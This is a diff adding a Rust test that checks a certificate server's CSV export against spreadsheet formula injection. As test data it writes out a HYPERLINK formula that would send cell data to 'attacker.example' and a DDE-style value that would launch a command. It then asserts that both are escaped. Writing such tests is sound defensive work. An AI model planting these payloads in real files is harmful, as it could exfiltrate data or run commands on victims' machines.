@@ -296,3 +296,38 @@ fn huge_headers_are_refused_and_the_server_lives_on() {
         assert_eq!(status, 200);
     });
 }
+
+#[tokio::test]
+async fn csv_cells_that_spreadsheets_would_run_are_neutralised() {
+    let s = TestServer::start().await;
+    let link = r#"=HYPERLINK("http://attacker.example/?x="&A1,"Click")"#;
+    let container = s
+        .store
+        .create_container(&certkeep_core::NewContainer {
+            account_id: s.fx.account,
+            parent_id: Some(s.fx.root),
+            name: link.into(),
+            description: String::new(),
+        })
+        .unwrap();
+    let email = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let id = s.insert_order(container, email);
+    let resp = s
+        .client
+        .get(format!("{}/services/v2/order/certificate", s.base))
+        .header("X-DC-DEVKEY", &s.fx.admin_key)
+        .header("Accept", "text/csv")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 200);
+    let body = resp.text().await.unwrap();
+    let row = body.lines().find(|l| l.starts_with(&format!("\"{id}\""))).unwrap();
+    // Quoted as before, and prefixed with `'` so that no spreadsheet reads a formula.
+    assert!(row.contains(r#","'=HYPERLINK(""http://attacker.example/?x=""&A1,""Click"")","#), "{row}");
+    // (e-mails are kept in lower case)
+    assert!(row.contains(r#","'@sum(1+1)*cmd|' /c calc'!a0","#), "{row}");
+    for formula in ["=", "@", "+", "\t", "\r"] {
+        assert!(!body.contains(&format!(",\"{formula}")), "a cell starts with {formula:?}: {body}");
+    }
+}
